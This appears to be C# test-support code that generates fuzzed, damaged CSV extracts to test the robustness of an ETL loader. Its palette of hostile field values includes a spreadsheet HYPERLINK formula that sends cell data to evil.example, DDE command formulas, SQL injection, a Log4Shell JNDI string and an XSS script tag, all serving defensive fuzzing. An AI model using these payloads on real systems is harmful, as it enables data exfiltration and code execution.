using System.Text;

namespace Analytics.Etl.Reliability;

/// <summary>A fuzzed extract: its bytes, what was done to it, and whether its good rows must all still load.</summary>
internal sealed record FuzzedExtract(string Name, byte[] Bytes, string Mutation, string Seed, bool GoodRowsMustLoad);

/// <summary>
/// Makes hostile extracts from a good one (deterministically for a seed). Row mutations add bad records — wrong field
/// counts, or an invalid ID number — full of hostile text (formulas, NULs, control characters, huge fields, emoji,
/// stray BOMs, SQL): every good row must still load. File mutations damage the file itself (flipped bytes,
/// truncation, unbalanced quotes, other line ends, binary junk, UTF-16, no header...): it may be refused, never crash.
/// </summary>
internal sealed class HostileExtracts(int seed)
{
    private readonly Random random = new(seed);

    private static readonly string[] Palette =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "\0\0\0", "\u0001\u0002\u0003\u001b[31m", "'; DROP TABLE person; --", "\u202Etxt.exe", "👩‍👩‍👧‍👦🀄", "５１０１０４１９９０",
        "\uFEFF", "\t", "NaN", "1e309", "-0", "9999-99-99", "2023-02-30", "0000-00-00", "", " ", "\"", "\"\"\"", "a\nb", "a\r\nb",
        "\\x00", "%s%s%n", "${jndi:ldap://x}", "<script>alert(1)</script>", "510104199001011234", "NULL", "null", "true",
        new string('长', 100_000), new string('9', 5_000),
    ];

    public FuzzedExtract Make(int number, string seedName, string seedText)
    {
        var rowMutation = random.NextDouble() < 0.6;
        var name = $"f{number:0000}.csv";
        if (rowMutation)
        {
            var (text, what) = AddBadRecords(seedText);
            var encoding = random.Next(4) == 0 ? Gb18030 : new UTF8Encoding(random.Next(2) == 0);
            return new FuzzedExtract(name, Bytes(text, encoding), what, seedName, GoodRowsMustLoad: true);
        }
        var (bytes, mutation) = DamageFile(seedText);
        return new FuzzedExtract(name, bytes, mutation, seedName, GoodRowsMustLoad: false);
    }

    private static Encoding Gb18030
    {
        get
        {
            Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
            return Encoding.GetEncoding("GB18030");
        }
    }

    private static byte[] Bytes(string text, Encoding encoding) => [.. encoding.GetPreamble(), .. encoding.GetBytes(text)];

    private string Hostile() => random.Next(8) == 0 ? RandomText(random.Next(1, 200)) : Palette[random.Next(Palette.Length)];

    private string RandomText(int length)
    {
        var chars = new char[length];
        for (var i = 0; i < length; i++) chars[i] = (char)random.Next(1, 0xD7FF);
        return new string(chars);
    }

    /// <summary>Inserts 1–5 bad records at random places among the good ones.</summary>
    private (string Text, string What) AddBadRecords(string seedText)
    {
        var lines = seedText.Split('\n').Where(l => l.Length > 0).ToList();
        var good = lines.Skip(1).ToList();
        var header = Csv.Split(lines[0]);
        var idColumn = header.FindIndex(h => h.Trim() is "身份证号" or "id_number");
        var count = random.Next(1, 6);
        var kinds = new List<string>();
        for (var i = 0; i < count; i++)
        {
            List<string> fields;
            if (idColumn >= 0 && random.Next(2) == 0)
            {
                // The right field count, an ID number with a wrong check character, hostile text elsewhere (never in 统计日期).
                fields = Csv.Split(good[random.Next(good.Count)]);
                var id = fields[idColumn];
                fields[idColumn] = id[..^1] + (id[^1] == '0' ? '1' : '0');
                for (var f = 0; f < fields.Count; f++)
                    if (f != idColumn && header[f].Trim() is not ("统计日期" or "as_of") && random.Next(3) == 0) fields[f] = Hostile();
                kinds.Add("invalid-id");
            }
            else
            {
                var width = random.Next(3) switch { 0 => header.Count + 1 + random.Next(5), 1 => Math.Max(1, header.Count - 1 - random.Next(header.Count - 1)), _ => 1 };
                if (width == header.Count) width++;
                fields = Enumerable.Range(0, width).Select(_ => Hostile()).ToList();
                if (width == 1 && fields[0].Length == 0) fields[0] = "x"; // an empty line would just be skipped
                kinds.Add("field-count");
            }
            lines.Insert(random.Next(1, lines.Count + 1), Csv.Join(fields));
        }
        return (string.Join('\n', lines) + "\n", "bad records: " + string.Join(",", kinds));
    }

    private (byte[] Bytes, string What) DamageFile(string seedText)
    {
        var utf8 = Encoding.UTF8.GetBytes(seedText);
        switch (random.Next(14))
        {
            case 0:
                var flipped = (byte[])utf8.Clone();
                for (var i = 0; i < random.Next(1, 20); i++) flipped[random.Next(flipped.Length)] ^= (byte)random.Next(1, 256);
                return (flipped, "flipped bytes");
            case 1: return (utf8[..random.Next(utf8.Length)], "truncated");
            case 2:
                var at = random.Next(utf8.Length);
                return ([.. utf8[..at], (byte)'"', .. utf8[at..]], "unbalanced quote");
            case 3: return (Encoding.UTF8.GetBytes(seedText.Replace("\n", "\r", StringComparison.Ordinal)), "CR line ends");
            case 4: return (Encoding.UTF8.GetBytes(seedText.Replace("\n", "", StringComparison.Ordinal)), "no line ends");
            case 5: return ([], "empty file");
            case 6: return (Encoding.UTF8.GetBytes(seedText.Split('\n')[0] + "\n"), "header only");
            case 7:
                var junk = new byte[random.Next(1, 4096)];
                random.NextBytes(junk);
                return (junk, "binary junk");
            case 8: return ([.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(seedText)], "UTF-16");
            case 9: return ([.. Encoding.UTF8.GetPreamble(), .. Gb18030.GetBytes(seedText)], "GB18030 behind a UTF-8 BOM");
            case 10:
                var lines = seedText.Split('\n');
                lines[0] = string.Join(",", Csv.Split(lines[0]).OrderBy(_ => random.Next()).Select((h, i) => i == 0 ? h + "," + h : h));
                return (Encoding.UTF8.GetBytes(string.Join('\n', lines)), "shuffled header with a duplicate column");
            case 11:
                var cut = seedText.Split('\n').ToList();
                cut.RemoveAt(0);
                return (Encoding.UTF8.GetBytes(string.Join('\n', cut)), "no header");
            case 12:
                var nul = (byte[])utf8.Clone();
                for (var i = 0; i < random.Next(1, 50); i++) nul[random.Next(nul.Length)] = 0;
                return (nul, "NUL bytes");
            default:
                var split = seedText.IndexOf('\n', StringComparison.Ordinal) + 1;
                return (Encoding.UTF8.GetBytes(seedText[..split] + new string('x', 2_000_000) + "\n" + seedText[split..]), "a 2 MB line");
        }
    }
}

/// <summary>RFC 4180 fields of one record (no embedded newlines in the seeds), and back.</summary>
internal static class Csv
{
    public static List<string> Split(string line)
    {
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { fields.Add(field.ToString()); field.Clear(); }
            else if (c != '\r') field.Append(c);
        }
        fields.Add(field.ToString());
        return fields;
    }

    public static string Join(IEnumerable<string> fields) => string.Join(",", fields.Select(f =>
        f.IndexOfAny([',', '"', '\n', '\r']) >= 0 || f.StartsWith(' ') || f.EndsWith(' ') ? "\"" + f.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : f));
}
